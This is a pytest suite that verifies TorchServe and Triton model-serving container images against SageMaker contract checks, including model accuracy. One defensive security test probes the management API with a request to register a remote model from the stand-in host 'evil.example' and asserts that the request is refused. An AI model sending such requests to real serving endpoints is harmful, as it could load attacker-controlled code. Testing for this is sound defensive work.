"""Every image flavor (cpu variants) against the SageMaker contract, in real containers.

`verify` runs once per image (the same product code users run); each contract point
then has its own test, named after its ID, so a regression names the point and the
image: test_c04_ping_200_fast_once_loaded[triton]."""

from __future__ import annotations

import io
import json
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import digits_samples as samples
import numpy as np
import pytest
import requests

from byoc import launcher
from byoc.console import Console
from byoc.verify import VerifyOptions, prepare, run
from byoc.verify.contract import listening_sockets

IMAGES = {"torchserve": "torchserve_image", "triton": "triton_image",
          "triton-ngc": "triton_ngc_image"}


@pytest.fixture(scope="module", params=sorted(IMAGES))
def report(request):
    image = request.getfixturevalue(IMAGES[request.param])
    with tempfile.TemporaryDirectory() as scratch:
        target = prepare(image, VerifyOptions(), Path(scratch))
        result = run(target, VerifyOptions(), Console(sys.stderr))
    print(f"\nverify {image}\n" + result.table())
    return result


def passed(report, cid: str) -> None:
    checks = [c for c in report.checks if c.cid == cid]
    assert checks, f"verify ran no {cid} check"
    failed = [f"{c.title}: {c.detail}" for c in checks if c.ok is False]
    assert not failed, f"{cid} failed: {failed}"


def test_c01_serve_argument_and_debug_commands(report):
    passed(report, "C01")


def test_c02_sigterm_exits_zero_within_30s(report):
    passed(report, "C02")


def test_c03_bind_to_port_and_safe_port_range(report):
    passed(report, "C03")


def test_c04_ping_200_fast_once_loaded(report):
    passed(report, "C04")


def test_c05_start_to_ready_measured(report):
    passed(report, "C05")
    assert report.ready_s is not None and report.first_answer_s is not None


def test_c06_container_exits_nonzero_when_server_dies(report):
    passed(report, "C06")


def test_c07_content_types_and_correct_predictions(report):
    passed(report, "C07")


def test_c14_starts_with_empty_and_largest_environment(report):
    passed(report, "C14")


def test_c26_no_bundled_driver_libraries(report):
    passed(report, "C26")


def test_c08_server_timeout_below_60s(report):
    passed(report, "C08")


def test_c09_six_mib_served_seven_mib_413(report):
    passed(report, "C09")


def test_c10_headers(report):
    passed(report, "C10")


def test_c11_malformed_requests_4xx_and_keeps_serving(report):
    passed(report, "C11")


def test_c13_model_dir_untouched(report):
    passed(report, "C13")


def test_c15_starts_without_network(report):
    passed(report, "C15")


def test_c16_ping_not_logged(report):
    passed(report, "C16")


def test_c17_c18_c20_labels_and_architecture(report):
    for cid in ("C17", "C18", "C20"):
        passed(report, cid)


def test_c21_to_c25_multi_model_api_where_declared(report):
    """Images that carry the multi-models label must pass the whole MME API."""
    declared = any(c.cid == "C18" and "present" in c.detail for c in report.checks)
    if not declared:
        assert not [c for c in report.checks if c.cid in ("C21", "C22", "C23", "C24", "C25")]
        return
    for cid in ("C21", "C22", "C23", "C24", "C25"):
        passed(report, cid)


def test_accuracy_on_held_out_digits_through_the_container(torchserve_image):
    """The example model answers >= 95 % of the held-out split, as JSON and as PNG."""
    from digits_data import load_split

    _, x_test, _, y_test = load_split()
    with launcher.launched(torchserve_image) as running:
        running.wait_ready()
        url = f"{running.url}/invocations"
        response = requests.post(url, data=samples.as_json(x_test.tolist()),
                                 headers={"Content-Type": "application/json"}, timeout=60)
        assert response.status_code == 200, response.text
        labels = [p["label"] for p in response.json()["predictions"]]
        json_accuracy = float(np.mean(np.asarray(labels) == y_test))
        with requests.Session() as http:
            png_labels = [
                http.post(url, data=samples.as_image(row, "PNG"),
                          headers={"Content-Type": "image/png"}, timeout=60)
                .json()["predictions"][0]["label"]
                for row in x_test
            ]
        png_accuracy = float(np.mean(np.asarray(png_labels) == y_test))
    print(f"\nheld-out accuracy through TorchServe: json {json_accuracy:.4f}, "
          f"png {png_accuracy:.4f} ({len(y_test)} digits)")
    assert json_accuracy >= 0.95
    assert png_accuracy >= 0.95


def _broken_model_tar(tmp_path):
    """A model.tar.gz whose .mar holds a serialized file that is not a model."""
    import tarfile

    mar = io.BytesIO()
    with zipfile.ZipFile(mar, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps({
            "runtime": "python", "model": {"modelName": "digits", "modelVersion": "1.0",
                                           "serializedFile": "digits.pt",
                                           "handler": "digits_handler.py"},
            "archiverVersion": "0.12.0"}))
        archive.writestr("digits.pt", b"this is not a TorchScript archive")
        for name in ("digits_handler.py", "digits_codec.py"):
            archive.write(f"handlers/{name}", name)
    tar_path = tmp_path / "broken.tar.gz"
    with tarfile.open(tar_path, "w:gz") as tar:
        info = tarfile.TarInfo("digits.mar")
        info.size = len(mar.getvalue())
        tar.addfile(info, io.BytesIO(mar.getvalue()))
    return tar_path


def test_c04_ping_never_200_when_the_model_fails_to_load(torchserve_image, tmp_path):
    """TorchServe's own /ping says 200 while workers crash-loop; ours must not."""
    with launcher.launched(torchserve_image, model_tar=_broken_model_tar(tmp_path)) as running:
        answers = []
        deadline = time.monotonic() + 25
        with requests.Session() as http:
            while time.monotonic() < deadline:
                try:
                    answers.append(http.get(f"{running.url}/ping", timeout=2).status_code)
                except requests.RequestException:
                    pass
                time.sleep(0.5)
        logs = running.logs()
    assert answers, "the front never answered"
    assert 200 not in answers, f"/ping said 200 with a broken model: {answers}"
    assert set(answers) == {503}
    assert "READY" not in logs or "no READY worker" in logs


@pytest.mark.parametrize("flavor, sample_index, kind", [("torchserve", 7, "png"),
                                                      ("triton", 8, "jpeg")])
def test_c13_package_model_served_by_a_no_model_image(request, flavor, sample_index, kind):
    """SageMaker's way: model.tar.gz extracted read-only into /opt/ml/model."""
    image = request.getfixturevalue(f"{flavor}_nomodel_image")
    model_tar = request.getfixturevalue(f"{flavor}_model_tar")
    with launcher.launched(image, model_tar=model_tar) as running:
        running.wait_ready()
        sample = samples.digits()[sample_index]
        ctype, body = samples.request_bodies(sample.pixels)[kind]
        response = requests.post(f"{running.url}/invocations", data=body,
                                 headers={"Content-Type": ctype}, timeout=30)
        assert response.status_code == 200, response.text
        assert response.json()["predictions"][0]["label"] == sample.label
        # The read-only mount point itself shows as added; nothing may appear below it.
        assert not [c for c in running.container.diff() or []
                    if c["Path"].startswith("/opt/ml/model/")]


def test_no_model_image_without_model_exits_with_a_clear_message(torchserve_nomodel_image):
    running = launcher.run(torchserve_nomodel_image, publish=False)
    try:
        code = running.container.wait(timeout=60)["StatusCode"]
        logs = running.logs()
    finally:
        running.remove()
    assert code == 1
    assert "no model" in logs and "package-model" in logs


def test_security_torchserve_apis_unreachable_and_registration_refused(torchserve_image):
    """Management and metrics are loopback-only; registering a remote model is refused."""
    probe = (
        "import urllib.request as u, urllib.error as e\n"
        "req = u.Request('http://127.0.0.1:8082/models?url=http://evil.example/x.mar',"
        " method='POST')\n"
        "try:\n    print(u.urlopen(req, timeout=5).status)\n"
        "except e.HTTPError as err:\n    print(err.code)\n"
    )
    with launcher.launched(torchserve_image) as running:
        running.wait_ready()
        sockets = listening_sockets(running)
        result = running.container.exec_run(["python", "-c", probe])
    public = [port for port, scope in sockets.items() if scope == "public"]
    assert public == [8080], sockets
    assert result.output.decode().strip() in ("400", "403", "404", "405"), result.output


def test_cli_rejects_bad_input_with_one_line(run_cli):
    result = run_cli("torchserve", "--variant", "tpu")
    assert result.returncode == 2
    assert result.stderr.count("ERROR") == 1 and "cpu" in result.stderr


def test_c27_gpu_without_an_nvidia_runtime_is_one_clear_line(docker_engine, torchserve_image,
                                                             run_cli):
    if "nvidia" in (docker_engine.info().get("Runtimes") or {}):
        pytest.skip("this Docker host has the NVIDIA runtime: the GPU checks run instead")
    result = run_cli("verify", torchserve_image, "--gpu", timeout=120)
    assert result.returncode == 1
    assert result.stderr.count("ERROR") == 1 and "NVIDIA container runtime" in result.stderr
    assert "Traceback" not in result.stderr
    created = docker_engine.containers.list(all=True, filters={"status": "created"})
    assert not [c for c in created if c.image.tags and torchserve_image in c.image.tags]
